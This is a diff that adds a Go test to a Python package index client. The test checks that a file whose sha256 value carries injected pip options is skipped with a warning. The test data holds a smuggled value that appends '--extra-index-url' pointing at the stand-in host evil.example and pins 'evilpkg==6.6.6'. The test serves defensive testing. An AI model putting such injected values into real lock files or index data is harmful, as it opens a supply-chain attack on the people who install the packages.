@@ -125,3 +125,44 @@ func TestMetadataSharedByItsOwnHash(t *testing.T) {
 		}
 	}
 }
+
+// TestFileWithBadHashIsSkipped: a page's file whose sha256 is no SHA-256 digest (here
+// one carrying pip options and a pin for a requirements lock) is left out, with a
+// warning, and the page's other files are used; the cache gives the same warning.
+func TestFileWithBadHashIsSkipped(t *testing.T) {
+	good := makeWheel(t, "demo-1.0-py3-none-any.whl", metadataText("demo", "1.0"), 0)
+	injected := sha(good.data) + "\n--extra-index-url https://evil.example/simple\nevilpkg==6.6.6"
+	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		switch r.URL.Path {
+		case "/simple/demo/":
+			body, err := json.Marshal(map[string]any{"meta": map[string]string{"api-version": "1.1"}, "files": []any{
+				map[string]any{"filename": "demo-1.0-py3-none-any.whl", "url": "/evil/demo-1.0-py3-none-any.whl", "hashes": map[string]string{"sha256": injected}},
+				map[string]any{"filename": "demo-1.0-py3-none-any.whl", "url": "/good/demo-1.0-py3-none-any.whl", "hashes": map[string]string{"sha256": sha(good.data)}},
+			}})
+			if err != nil {
+				t.Error(err)
+			}
+			w.Header().Set("Content-Type", simple.JSONType)
+			w.Write(body)
+		default:
+			http.NotFound(w, r)
+		}
+	}))
+	t.Cleanup(srv.Close)
+	dir := t.TempDir()
+	for run := range 2 {
+		var warnings []string
+		ix := newIndex(t, Options{IndexURL: srv.URL + "/simple/", Cache: openCache(t, dir), Warn: func(msg string) { warnings = append(warnings, msg) }})
+		files, err := ix.Files(context.Background(), "demo", pep440.MustParse("1.0"))
+		if err != nil {
+			t.Fatal(err)
+		}
+		if len(files) != 1 || files[0].SHA256 != sha(good.data) || !strings.HasSuffix(files[0].URL, "/good/demo-1.0-py3-none-any.whl") {
+			t.Errorf("run %d: files %+v, want the one with a good hash", run, files)
+		}
+		if len(warnings) != 1 || !strings.Contains(warnings[0], `sha256 digest "`+sha(good.data)+`\n--extra-index-u"… is not hexadecimal; file skipped`) || strings.Contains(warnings[0], "\n") {
+			t.Errorf("run %d: warnings %q", run, warnings)
+		}
+		ix.Close()
+	}
+}
